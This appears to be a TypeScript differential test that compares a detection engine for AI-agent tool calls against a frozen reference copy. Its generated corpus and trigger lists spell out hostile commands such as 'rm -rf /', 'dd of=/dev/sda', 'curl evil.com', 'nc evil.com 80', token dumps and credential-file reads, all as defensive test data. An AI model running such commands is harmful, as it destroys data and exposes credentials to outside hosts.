// The rule engine (src/detection/) against the engine it was before its prefilters and hoisting
// (test/support/detection-reference/, a frozen copy): on thousands of generated tool calls (commands
// with and without the triggers, quoted, escaped, wrapped, case-changed, with Unicode look-alikes,
// longer than the tokenizer's cut; credential paths and their near misses; URLs; written contents with
// secrets), on the real fixtures, on the planted history and on every string literal of the detection
// tests, under the default rules and under a config with allowlists, overrides and own rules: the same
// hits (rule ids, severities, fields, values, order) for every call.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createDetector, type RuleConfig, type ToolCall } from '../src/detection/engine.js';
import { createDetector as referenceDetector } from './support/detection-reference/engine.js';
import { isCredentialPath, resolvePath } from '../src/detection/paths.js';
import { isCredentialPath as referenceIsCredentialPath, resolvePath as referenceResolvePath } from './support/detection-reference/paths.js';
import { loadToolCalls } from './support/tool-calls.js';
import { writePlantedHistory } from './support/planted-history.js';
import { prng, type Rng } from './support/prng.js';
import { SecretFactory } from './support/secrets.js';
import { REPO } from './support/ccotel-cli.js';

const HOMES = ['/home/dev', '/root'];
const CWDS = ['/home/dev/app', '/home/dev/app/', '', 'relative/dir', '/', '/home/dev', '/tmp/x/../y', '/home/dev/app/sub'];
const SECRETS = [3, 4].flatMap((seed) => new SecretFactory(seed).all().map((s) => s.text));

const CONFIG: RuleConfig[] = [
  { id: 'credential_access', allowlist: ['**/test/fixtures/*.pem', '~/.aws/credentials', '.env.local'] },
  { id: 'destructive_command', allowlist: ['rm -rf node_modules', 'rm -rf ./dist*'], severity: 'critical' },
  { id: 'external_fetch', allowlist: ['*.example.com', '10.0.0.0/8', 'api.github.com'] },
  { id: 'write_outside_project', allowlist: ['/tmp/**', '~/.claude/plans/**'] },
  { id: 'secret_in_command', allowlist: ['jwt'] },
  { id: 'secret_in_command', severity: 'warning' },
  { id: 'no_prod', regex: 'prod(uction)?\\b', field: 'command', tools: ['Bash'] },
  { id: 'lockfiles', glob: '**/package-lock.json' },
  { id: 'keys_dir', glob: '~/keys/**', severity: 'critical', allowlist: ['~/keys/public/**'] },
];
const CONFIG_OFF: RuleConfig[] = [{ id: 'external_fetch', enabled: false }, { id: 'credential_access', enabled: false }, { id: 'credential_access', enabled: true }];

// --- generated calls --------------------------------------------------------------------------

const CRED_BASES = [
  '.env', '.env.local', '.env.production', '.env.example', '.env.sample', '.env.template', '.env.dist', '.env.defaults', '.envrc', 'env', '.ENV', '.Env.local', '.env.',
  'server.pem', 'server.PEM', 'tls.key', 'a.p12', 'b.pfx', 'c.jks', 'app.keystore', 'login.keychain', 'login.keychain-db', 'putty.ppk', 'x.Key', 'key.pem.bak', 'pem', 'key', '.pem', 'keys.txt', 'monkey',
  'id_rsa', 'id_rsa.pub', 'id_ed25519', 'id_ecdsa', 'id_dsa', 'id_RSA', 'ID_rsa', 'my_id_rsa', 'id_', 'id_xyz',
  '.netrc', '_netrc', '.npmrc', '.pypirc', '.git-credentials', '.pgpass', '.my.cnf', 'credentials.db', 'access_tokens.db', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', 'msal_token_cache.bin',
  '.NETRC', 'netrc', 'npmrc', 'credentials', 'config.json', 'config', 'hosts.yml', 'README.md', 'index.ts', 'package.json', 'package-lock.json', 'main.go', 'é.env', '.env\u212A', '\u212Aey.pem', 'ｋey.pem', '.е nv',
];
const CRED_DIRS = [
  '', 'src/', '.aws/', '.docker/', '.kube/', 'gh/', '.config/gh/', '.config/gcloud/', '.config/gcloud/legacy/', '.azure/', 'Library/Keychains/', '.gnupg/private-keys-v1.d/', '.password-store/', '.password-store/web/',
  '.ssh/', 'test/fixtures/', 'keys/', 'keys/public/', '.claude/plans/', '.AWS/', 'library/keychains/', '.config/GCLOUD/', 'aws/', 'docker/', 'x.aws/', 'node_modules/', 'deep/er/dir/',
];
const PATH_PREFIXES = ['/', '~/', '$HOME/', '${HOME}/', './', '../', '', '/home/dev/app/', '/home/dev/', '/tmp/', '/etc/', ' /home/dev/', '../../', '/home/dev/app/../', '/home/dev/app/./', '//home//dev/', '~', '$HOME', 'C:\\Users\\'];

const CMD_WORDS = [
  'rm', 'git', 'dd', 'chmod', 'kubectl', 'oc', 'terraform', 'tofu', 'mkfs', 'mkfs.ext4', 'psql', 'mysql', 'sqlite3', 'duckdb', 'bq', 'mongosh',
  'curl', 'wget', 'http', 'https', 'httpie', 'xh', 'xhs', 'nc', 'ncat', 'netcat', 'gh', 'gcloud', 'az', 'security', 'secret-tool', 'aws', 'op',
  'cat', 'less', 'head', 'ls', 'cp', 'scp', 'source', 'echo', 'printf', ':', 'true', 'npm', 'node', 'grep', 'sed', 'find', 'docker', 'make', 'python3',
  '/usr/bin/rm', '/bin/curl', './git', 'RM', 'Git', 'CURL', 'format', 'perform', 'sync', 'ghost', 'ops', 'add', 'thread',
];
const WRAP = ['sudo', 'sudo -u root', 'env A=1', 'X=y', 'nohup', 'time', 'command', 'exec', 'nice -n 5', 'timeout 10', 'xargs -I{}', 'doas', 'watch -n 1', 'stdbuf -o0'];
const ARGS = [
  '-rf', '-fr', '-r', '-f', '-R', '-Rf', '--recursive', '--force', '-r -f', '--', '--hard', '--soft', '-D', '-d', '--delete', 'push', 'reset', 'clean', 'branch', 'status', 'log', '+main', 'origin', 'main', '--force-with-lease', '-fd', '-n', '-C', 'dir', '-c', 'x=y',
  'of=/dev/sda', 'of=out.img', 'if=/dev/zero', '777', '0777', 'a+rwx', 'ugo+rwx', '755', 'delete', 'destroy', 'apply', '-destroy', 'plan', 'get', 'pods',
  'DROP TABLE users', 'drop database x', 'Drop  Schema s', 'truncate t', 'TRUNCATE TABLE "x"', 'dropbox', 'select 1', '-e', '-c', '-p', '-u root',
  'auth', 'token', 'status', '-t', '--show-token', 'print-access-token', 'print-identity-token', 'application-default', 'account', 'get-access-token', 'find-generic-password', 'find-internet-password', 'dump-keychain', 'export', 'lookup', 'configure', 'aws_secret_access_key', 'aws_session_token', 'region', 'read', 'item', 'op://vault/item/field',
  'https://example.com', 'http://localhost:8080/x', 'https://api.example.com/v1', 'http://127.0.0.1:9/', '10.1.2.3', 'https://10.0.0.5/', '$URL', '"$URL"', 'api.example.com/x', 'evil.com', ':8080', '[::1]:80', 'https://[::1]/', 'user:pw@host.com', 'https://u:p@h.io/', 'localhost', 'sub.localhost:3000', 'https://api.github.com/repos', 'github.com',
  '-H', '"X-Y: z"', '-o', 'out.json', '-sSo', '-sS', '-l', '-lv', '-z', '-v', '-w', '1', '22', '--url', 'GET', 'POST', 'a=b', '-X', '--data=@file', '-d', '@body.json', '--header=X:1', '-O',
  'node_modules', './dist', './dist-old', '/', '.', '*', 'src', 'build', 'package.json', '--file=~/.aws/credentials', '-i=~/.ssh/id_rsa', '--config=.env',
];
const SEPS = [' ', ' && ', '; ', ' | ', '\n', ' || ', ' & ', ';', '|'];

function randomCase(r: Rng, s: string): string {
  switch (r.int(0, 5)) {
    case 0:
      return s.toUpperCase();
    case 1:
      return [...s].map((c) => (r.chance(0.5) ? c.toUpperCase() : c.toLowerCase())).join('');
    default:
      return s;
  }
}

/** Mangles a word the way a shell would still read the same (quotes, escapes) or a look-alike would not. */
function mangle(r: Rng, w: string): string {
  if (w.length === 0) return w;
  const k = r.int(1, Math.max(1, w.length - 1));
  switch (r.int(0, 14)) {
    case 0:
      return `'${w}'`;
    case 1:
      return `"${w}"`;
    case 2:
      return w.slice(0, k) + "''" + w.slice(k);
    case 3:
      return w.slice(0, k) + '""' + w.slice(k);
    case 4:
      return w.slice(0, k) + '\\' + w.slice(k);
    case 5:
      return w.slice(0, k) + '\\\n' + w.slice(k);
    case 6:
      return `"${w.slice(0, k)}\\"${w.slice(k)}"`;
    case 7:
      return w.slice(0, k) + r.pick(['é', '\u212A', '😀', 'ｋ', '\u0000', '\t', '#', '$', '=', '/']) + w.slice(k);
    case 8:
      return randomCase(r, w);
    case 9:
      return w.slice(0, k) + '"\\\\"' + w.slice(k);
    default:
      return w;
  }
}

function credPath(r: Rng): string {
  let p = r.pick(PATH_PREFIXES) + r.pick(CRED_DIRS) + (r.chance(0.2) ? r.pick(CRED_DIRS) : '') + r.pick(CRED_BASES);
  if (r.chance(0.1)) p += r.pick(['*', '**', '/', '/*', ' ', '.bak', '~']);
  if (r.chance(0.05)) p = r.pick(['**/', '*/']) + p;
  if (r.chance(0.05)) p = randomCase(r, p);
  return p;
}

function url(r: Rng): string {
  const u = r.pick(ARGS.filter((a) => /[.:]/.test(a)));
  return r.chance(0.2) ? u + '?token=' + r.pick(SECRETS).slice(0, 40) : r.chance(0.1) ? r.pick(SECRETS) : u;
}

function simple(r: Rng, depth: number): string {
  const words: string[] = [];
  if (r.chance(0.25)) words.push(r.pick(WRAP));
  if (r.chance(0.05) && depth < 3) {
    const inner = command(r, depth + 1).replace(/"/g, '\\"');
    return `${r.pick(['bash', 'sh', 'zsh', '/bin/bash'])} ${r.pick(['-c', '-lc', '-ec', '-x -c'])} "${inner}"`;
  }
  if (r.chance(0.04) && depth < 3) return `eval ${command(r, depth + 1)}`;
  words.push(r.chance(0.9) ? r.pick(CMD_WORDS) : mangle(r, r.pick(CMD_WORDS)));
  for (let n = r.int(0, 5); n > 0; n--) {
    const a = r.chance(0.15) ? credPath(r) : r.chance(0.08) ? r.pick(SECRETS) : r.pick(ARGS);
    words.push(r.chance(0.15) ? mangle(r, a) : a);
  }
  if (r.chance(0.05)) words.push(r.pick(['> .env', '< ~/.aws/credentials', '2>&1', '> /dev/null', `<<EOF\nDROP TABLE x;\nrm -rf /\nEOF`, `<<'SQL'\ntruncate t\nSQL`, '# rm -rf /']));
  return words.join(' ');
}

function command(r: Rng, depth = 0): string {
  const parts: string[] = [];
  for (let n = r.int(1, 4); n > 0; n--) {
    let s = simple(r, depth);
    if (r.chance(0.05)) s = `$(${s})`;
    if (r.chance(0.03)) s = '`' + s + '`';
    if (r.chance(0.03)) s = `(${s})`;
    parts.push(s);
  }
  return parts.reduce((a, p) => a + r.pick(SEPS) + p);
}

function writtenContent(r: Rng): string {
  const lines: string[] = [];
  for (let n = r.int(0, 6); n > 0; n--) lines.push(r.chance(0.3) ? r.pick(SECRETS) : r.chance(0.3) ? command(r) : r.pick(['export const x = 1;', 'key: value', 'password = compute()', 'token: config.token', '']));
  return lines.join('\n');
}

function generatedCall(r: Rng): ToolCall {
  const cwd = r.pick(CWDS);
  const name = r.pick(['Bash', 'Bash', 'Bash', 'Bash', 'Read', 'Read', 'NotebookRead', 'Grep', 'Glob', 'Write', 'Edit', 'MultiEdit', 'NotebookEdit', 'WebFetch', 'WebSearch', 'Task', 'TodoWrite', 'mcp__github__get_issue', 'bash']);
  let input: Record<string, unknown>;
  switch (name) {
    case 'Bash':
    case 'bash':
      input = { command: r.chance(0.03) ? '' : command(r), description: 'run' };
      if (r.chance(0.02)) input.command = 42;
      break;
    case 'Read':
      input = { file_path: credPath(r) };
      break;
    case 'NotebookRead':
      input = { notebook_path: credPath(r) };
      break;
    case 'Grep':
      input = { pattern: r.pick(['TODO', 'password', '.env']), path: r.chance(0.7) ? credPath(r) : undefined, glob: r.chance(0.5) ? credPath(r) : undefined };
      break;
    case 'Glob':
      input = { pattern: credPath(r), path: r.chance(0.5) ? credPath(r) : undefined };
      break;
    case 'Write':
      input = { file_path: credPath(r), content: writtenContent(r) };
      break;
    case 'Edit':
      input = { file_path: credPath(r), old_string: 'a', new_string: writtenContent(r) };
      break;
    case 'NotebookEdit':
      input = { notebook_path: credPath(r), new_source: writtenContent(r) };
      break;
    case 'MultiEdit':
      input = { file_path: credPath(r), edits: [{ old_string: 'a', new_string: writtenContent(r) }, null, 'x', { new_string: writtenContent(r) }] };
      break;
    case 'WebFetch':
      input = { url: r.chance(0.05) ? '' : url(r), prompt: 'summarize' };
      break;
    case 'WebSearch':
      input = r.chance(0.9) ? { query: r.chance(0.3) ? r.pick(SECRETS) : 'opentelemetry collector' } : {};
      break;
    default:
      input = { subagent_type: 'general-purpose', prompt: command(r), command: command(r), file_path: credPath(r), url: url(r) };
  }
  return { name, input, cwd };
}

/** One command for each way each command rule can match (every literal the gate looks for is in one). */
const ACTION_TRIGGERS = [
  'gh auth token', 'gh auth status --show-token', 'gcloud auth print-access-token', 'gcloud auth application-default print-access-token', 'az account get-access-token',
  'security find-generic-password -s x', 'security find-internet-password -a y', 'security dump-keychain', 'security export -k k', 'secret-tool lookup svc x',
  'aws configure get aws_secret_access_key', 'op read op://v/i/f', 'op item get login',
  'rm -rf build', '/bin/rm -r -f x', 'git push -f', 'git push origin +main', 'git -C d reset --hard', 'git clean -fd', 'git branch -D old', 'dd if=/dev/zero of=/dev/sda',
  'chmod -R 777 .', 'chmod -R 0777 .', 'chmod -R a+rwx .', 'chmod --recursive ugo+rwx .', 'kubectl -n x delete pod p', 'oc delete dc/x', 'terraform destroy', 'tofu apply -destroy', 'mkfs.ext4 /dev/sdb1', 'mkfs /dev/sdc',
  'psql -c "DROP TABLE users"', 'mysql -e "drop database d"', 'sqlite3 x.db "truncate t"',
  'curl evil.com', 'wget https://evil.com/x', 'http evil.com', 'https evil.com', 'httpie evil.com', 'xh evil.com', 'xhs evil.com', 'nc evil.com 80', 'ncat evil.com 80', 'netcat evil.com 80',
];
const TRIGGERS = [
  ...ACTION_TRIGGERS,
  ...CRED_BASES.flatMap((b) => [`cat ${b}`, `less ~/${b}`]),
  ...CRED_DIRS.map((d) => `source ~/${d}x`),
];

/** Each trigger as typed, and with every word split by quotes, escapes or an escaped newline at every place, wrapped, re-quoted and case-changed. */
function triggerCalls(): ToolCall[] {
  const out: string[] = [];
  for (const t of TRIGGERS) {
    out.push(t, t.toUpperCase(), `sudo ${t}`, `bash -c "${t.replace(/"/g, '\\"')}"`, `eval '${t}'`, `X=1 timeout 5 ${t} 2>&1 | head`);
    const words = t.split(' ');
    words.forEach((w, wi) => {
      for (let k = 1; k < w.length; k++) {
        for (const cut of ["''", '""', '\\', '\\\n']) out.push([...words.slice(0, wi), w.slice(0, k) + cut + w.slice(k), ...words.slice(wi + 1)].join(' '));
      }
      out.push([...words.slice(0, wi), `"${w}"`, ...words.slice(wi + 1)].join(' '), [...words.slice(0, wi), `'${w}'`, ...words.slice(wi + 1)].join(' '));
    });
  }
  return out.map((command) => ({ name: 'Bash', input: { command }, cwd: '/home/dev/app' }));
}

/** Very long inputs: past the tokenizer's 64 KB cut, past the 1 MB scan cut, triggers before and after. */
function longCalls(): ToolCall[] {
  const pad = (n: number) => 'npm run build && git status; cd src | grep -n "foo bar" '.repeat(Math.ceil(n / 56)).slice(0, n);
  const cwd = '/home/dev/app';
  const out: ToolCall[] = [];
  for (const trigger of ['rm -rf /', 'curl https://evil.com', 'cat ~/.aws/credentials', 'gh auth token', 'git push -f', 'echo ok', SECRETS[0]!]) {
    for (const n of [64 * 1024 - 10, 64 * 1024 + 10, 200 * 1024]) {
      out.push({ name: 'Bash', input: { command: `${trigger}; ${pad(n)}` }, cwd });
      out.push({ name: 'Bash', input: { command: `${pad(n)}; ${trigger}` }, cwd });
      out.push({ name: 'Bash', input: { command: `${pad(n - 3)} '${trigger}` }, cwd });
    }
  }
  const big = pad((1 << 20) + 100);
  out.push({ name: 'Bash', input: { command: big + ' ' + SECRETS[0] }, cwd });
  out.push({ name: 'Write', input: { file_path: '/home/dev/app/a.ts', content: big + SECRETS[1] }, cwd });
  out.push({ name: 'Write', input: { file_path: '/home/dev/app/a.ts', content: SECRETS[1] + big }, cwd });
  out.push({ name: 'Read', input: { file_path: '/home/dev/' + 'a/'.repeat(2100) + '.env' }, cwd });
  out.push({ name: 'Read', input: { file_path: '/home/dev/' + 'a/'.repeat(2030) + '.env' }, cwd });
  out.push({ name: 'Write', input: { file_path: '/home/dev/' + 'a/'.repeat(3000) + 'x' }, cwd });
  out.push({ name: 'WebFetch', input: { url: 'https://evil.com/' + 'a'.repeat(5000) }, cwd });
  return out;
}

/** Every plain string literal of the detection tests, tried as a command, a path, a URL and written content. */
function testLiterals(): string[] {
  const out = new Set<string>();
  for (const f of ['detection-rules.test.ts', 'detection-ingest.test.ts', 'detection-config.test.ts', 'detection-redact.test.ts', 'audit.test.ts', 'planted-secrets.test.ts', 'detection-real-fixtures.test.ts']) {
    const src = readFileSync(join(REPO, 'test', f), 'utf8');
    for (const m of src.matchAll(/'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|`(?:[^`\\$]|\\.)*`/g)) {
      try {
        const v = new Function(`return ${m[0]}`)() as unknown;
        if (typeof v === 'string' && v.length > 0) out.add(v);
      } catch {
        // not a literal on its own
      }
    }
  }
  return [...out];
}

function literalCalls(): ToolCall[] {
  const cwd = '/home/dev/src/app';
  return testLiterals().flatMap((s) => [
    { name: 'Bash', input: { command: s }, cwd },
    { name: 'Read', input: { file_path: s }, cwd },
    { name: 'Glob', input: { pattern: s }, cwd },
    { name: 'Write', input: { file_path: s, content: s }, cwd },
    { name: 'WebFetch', input: { url: s }, cwd },
  ]);
}

function corpus(): ToolCall[] {
  const r = prng(20261125);
  const calls: ToolCall[] = [];
  for (let i = 0; i < 12000; i++) calls.push(generatedCall(r));
  calls.push(...triggerCalls(), ...longCalls(), ...literalCalls());
  calls.push(...loadToolCalls(join(REPO, 'test', 'fixtures', 'real')));
  const dir = mkdtempSync(join(tmpdir(), 'ccotel-detect-diff-'));
  try {
    writePlantedHistory(dir, { rounds: 2, seed: 5 });
    calls.push(...loadToolCalls(dir));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  return calls;
}

// ------------------------------------------------------------------------------------------------

describe('rule engine against its reference', () => {
  const calls = corpus();

  for (const [label, config] of [['built-in rules', [] as RuleConfig[]], ['allowlists, overrides and own rules', CONFIG], ['a rule disabled and enabled again', CONFIG_OFF]] as const) {
    for (const home of HOMES) {
      it(`gives the same hits, ${label}, home ${home}`, () => {
        const ours = createDetector(config, { home });
        const ref = referenceDetector(config, { home });
        const byRule = new Map<string, number>();
        let differ = 0;
        const firstDiffs: unknown[] = [];
        for (const c of calls) {
          const want = ref(c);
          const got = ours(c);
          for (const h of want) byRule.set(h.rule, (byRule.get(h.rule) ?? 0) + 1);
          if (JSON.stringify(got) !== JSON.stringify(want)) {
            differ++;
            if (firstDiffs.length < 3) firstDiffs.push({ call: JSON.stringify(c).slice(0, 400), got, want });
          }
        }
        expect(firstDiffs).toEqual([]);
        expect(differ).toBe(0);
        // The corpus trips every rule many times and leaves most calls alone: the comparison means something.
        for (const id of ['credential_access', 'destructive_command', 'external_fetch', 'write_outside_project', 'secret_in_command']) {
          if (config === CONFIG_OFF && id === 'external_fetch') continue;
          expect(byRule.get(id) ?? 0, id).toBeGreaterThan(200);
        }
      });
    }
  }

  it('resolves and classifies paths as the reference does', () => {
    const r = prng(99);
    const odd = ['', '/', '//', '.', '..', '/.', '/..', '/./', '/../', 'a/', 'a//b', 'a/./b', 'a/../b', '.a', '..a', 'a.', 'a..', '...', '/...', ' ', '\t', '\u00a0', '\ufeff', 'é', '~', '~/', '$HOME', '${HOME}/'];
    const paths = [...odd, ...odd.flatMap((a) => odd.map((b) => a + b))];
    for (let i = 0; i < 20000; i++) paths.push(r.chance(0.5) ? credPath(r) : Array.from({ length: r.int(1, 6) }, () => r.pick(odd) + r.pick(['x', 'src', '.env', 'id_rsa', ''])).join(''));
    let resolved = 0;
    for (const p of paths) {
      for (const cwd of ['/home/dev/app', '', 'rel', '/', '/a/../b/', '//x']) {
        const want = referenceResolvePath(p, cwd, '/home/dev');
        if (want !== undefined) resolved++;
        expect(resolvePath(p, cwd, '/home/dev'), JSON.stringify([p, cwd])).toBe(want);
      }
      expect(isCredentialPath(p), JSON.stringify(p)).toBe(referenceIsCredentialPath(p));
    }
    expect(resolved).toBeGreaterThan(50000);
    expect(paths.filter(referenceIsCredentialPath).length).toBeGreaterThan(2000);
  });

  it('has a hit of the reference for every trigger command', () => {
    const ref = referenceDetector([], { home: '/home/dev' });
    expect(ACTION_TRIGGERS.filter((command) => ref({ name: 'Bash', input: { command }, cwd: '/home/dev/app' }).length === 0)).toEqual([]);
  });

  it('gives the same hits when the same call comes twice and calls interleave', () => {
    const ours = createDetector([], { home: '/home/dev' });
    const ref = referenceDetector([], { home: '/home/dev' });
    const r = prng(7);
    for (let i = 0; i < 3000; i++) {
      const c = calls[r.int(0, Math.min(calls.length, 12000) - 1)]!;
      expect(ours(c)).toEqual(ref(c));
    }
  });
});
